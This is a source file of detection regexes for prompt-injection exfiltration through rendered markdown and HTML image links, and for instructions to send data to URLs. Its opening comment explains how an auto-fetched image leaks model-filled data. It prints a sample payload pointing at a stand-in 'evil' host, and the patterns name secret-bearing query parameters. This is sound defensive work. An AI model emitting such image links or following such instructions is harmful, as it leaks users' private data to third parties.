// Exfiltration through rendered links and images. A markdown image is fetched by the client as soon as
// the answer renders, so "![x](https://evil/?q={secret})" leaks whatever the model substitutes, without a
// click. Query parameters or template placeholders in such a URL are the tell; plain images and links
// weigh little on their own.
import { re2 } from '../../util/re2.js';

const URL_HEAD = '(?:https?:)?//[^\\s)"\'>]';
/**
 * A query value left for the model to fill: empty (`?q=)`, `?q=&`) or a placeholder (`{data}`, `[data]`,
 * `<secret>`, `%s`, `$x`). Fixed values (`?style=flat`, `?branch=main`, `?token=q3f8npuwyz`) are what
 * README badges carry, by the dozen. (The view is lower-cased: `?q=SUMMARY` reads as a fixed value.)
 */
const FILL_IN = `(?:[)&\\s"'>]|$|\\{|\\[|<|%s|\\$)`;
/** Markdown or HTML image whose URL leaves a query value or a placeholder for the model to fill. */
export const IMAGE_WITH_DATA = re2(
  `!\\[[^\\]\\n]*\\]\\( ?${URL_HEAD}+(?:\\?[^\\s)]*=${FILL_IN}|\\{|\\[|<|%s|\\$\\{?)` +
  `|<img[^>]*src ?= ?["']?${URL_HEAD}+(?:\\?[^\\s"'>]*=${FILL_IN}|\\{|\\$\\{?)`,
  'gu',
);

/**
 * Read on the cased text: an image URL whose query value is a capitalised name for the model to
 * replace (`?d=SUMMARY`, `?q=USER_DATA`). Digits rule out badge tokens (`?token=Q3F8NPUWYZ`).
 */
export const IMAGE_WITH_NAMED_SLOT = re2(`!\\[[^\\]\\n]*\\]\\( ?${URL_HEAD}+\\?[^\\s)]*=[A-Z][A-Z_]{2,}(?:[)&\\s]|$)`, 'gu');

/** Any external image, and links whose query is a placeholder to be filled with conversation data. */
export const IMAGE_OR_DATA_LINK = re2(
  `!\\[[^\\]\\n]*\\]\\( ?${URL_HEAD}` +
  `|\\]\\( ?${URL_HEAD}+\\?[^\\s)]*=(?:\\{|\\[|<|%s|\\$)` +
  '|https?://[^\\s)"\'>]+[?&](?:q|data|d|p|c|secret|password|pw|key|token|msg|text|conv|conversation|history|prompt|info|payload|exfil|content|chat|memory|email|user)=(?:\\{|\\[|<|%s|\\$)',
  'gu',
);

/** Instructions to move data to a URL, server or address. */
export const SEND_TO_URL = re2(
  '(?:send|post|upload|transmit|forward|exfiltrate|leak|email|submit|append|attach|encode|include|put|insert|add|' +
  'concatenate|fetch|request|load|render|navigate)(?:s|ing|ed)?(?: [^\\s.!?]+){0,8} (?:to|in|into|at|via|from) ' +
  '(?:the |this |that |a |an )?(?:url|link|endpoint|webhook|server|query(?: string)?|image(?: url)?|https?://|www\\.|[a-z0-9-]+\\.(?:com|net|org|io|ru|xyz|info|biz|site|app)\\b)',
  'gu',
);

/** Sending the reader somewhere: visit, click, download, install + an address. */
export const PROMOTE_URL = re2(
  '(?:visit|click|go to|check out|download|install|sign up (?:at|on)|register (?:at|on)|head (?:over )?to|navigate to|open)' +
  '(?: [^\\s.!?]+){0,5} (?:https?://|www\\.|[a-z0-9-]+\\.(?:com|net|org|io|ru|xyz|info|biz|site|app|top|cn)\\b)',
  'gu',
);
